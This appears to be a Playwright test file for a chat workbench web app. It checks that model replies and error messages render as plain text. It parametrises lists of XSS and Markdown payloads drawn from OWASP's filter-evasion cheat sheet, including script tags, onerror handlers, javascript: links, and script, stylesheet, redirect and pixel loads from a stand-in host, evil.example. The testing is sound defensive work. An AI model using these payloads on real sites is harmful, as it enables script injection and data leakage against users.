"""What models write and errors say is text, however it is made: no script runs, nothing is fetched from elsewhere."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import BrowserContext, Dialog, Page, Route, expect
from tests.browser.test_workbench import answers, ask, column, give_key, is_done
from tests.support.screen import Site

# Forms of OWASP's cheat sheet on evading XSS filters, and of what Markdown can be made to do.
SCRIPTS = (
    "<script>alert(1)</script>",
    '"><script src=//evil.example/x.js></script>',
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<math><mtext></mtext><mglyph><style><img src onerror="alert(1)">',
    '<form action="https://evil.example"><button>go</button></form>',
    '<object data="javascript:alert(1)"></object>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<a href="javascript:alert(1)">click</a>',
    "{{constructor.constructor('alert(1)')()}}",
    "</pre></code><script>alert(1)</script>",
)
MARKDOWN = (
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:alert(1))",
    "![pixel](https://evil.example/pixel.png)",
    "![pixel](//evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x](https://evil.example/"onerror="alert(1))',
    "[ref]: javascript:alert(1)\n\n[click][ref]",
    "<javascript:alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <svg/onload=alert(1)>",
)
LINKS = "[...document.querySelectorAll('.prose a')].map((each) => new URL(each.href).protocol)"
LOADED = """document.querySelectorAll(
    "body :is(script, iframe, object, embed, base, meta, link, style, img[src^=http])").length"""


@pytest.fixture
def bench(context: BrowserContext, page: Page, site: Site) -> Page:
    give_key(context, site.test)
    page.on("dialog", _opened)
    return page


def _opened(dialog: Dialog) -> None:
    dialog.dismiss()
    raise AssertionError(f"a script opened a dialog: {dialog.message}")


@pytest.mark.parametrize("corpus", [SCRIPTS, MARKDOWN], ids=["scripts", "markdown"])
def test_what_a_model_writes_is_text(bench: Page, corpus: tuple[str, ...]) -> None:
    bench.goto("/workbench?model=sandbox/echo")
    ask(bench, "\n\n".join(corpus))
    is_done(column(bench))
    expect(answers(bench)).to_have_count(1)
    for link in answers(bench).get_by_role("link").all():
        assert link.get_attribute("target") == "_blank"
        assert "noopener" in (link.get_attribute("rel") or "")
    assert set(bench.evaluate(LINKS)) <= {"http:", "https:"}
    assert bench.evaluate(LOADED) == 0
    bench.get_by_role("button", name="Raw").last.click()
    expect(bench.get_by_role("dialog")).to_contain_text("evil.example")
    assert bench.evaluate(LOADED) == 0


def test_what_a_model_shows_as_code_stays_code(bench: Page) -> None:
    bench.goto("/workbench?model=sandbox/echo")
    ask(bench, "```html\n<script>alert(1)</script>\n```")
    is_done(column(bench))
    expect(answers(bench).locator("pre")).to_contain_text("<script>alert(1)</script>")


def test_what_an_error_says_is_text(bench: Page) -> None:
    hostile = " ".join(SCRIPTS)
    error = {"message": f"No: {hostile}", "type": hostile, "param": hostile, "code": hostile}
    events = f"data: {json.dumps({'error': error})}\n\n"

    def fail(route: Route) -> None:
        route.fulfill(status=200, headers={"content-type": "text/event-stream"}, body=events)

    bench.route("**/v1/chat/completions", fail)
    bench.goto("/workbench?model=gpt-4.1-mini")
    ask(bench, "hello")
    expect(column(bench)).to_contain_text(f"No: {hostile}")
    assert bench.evaluate(LOADED) == 0
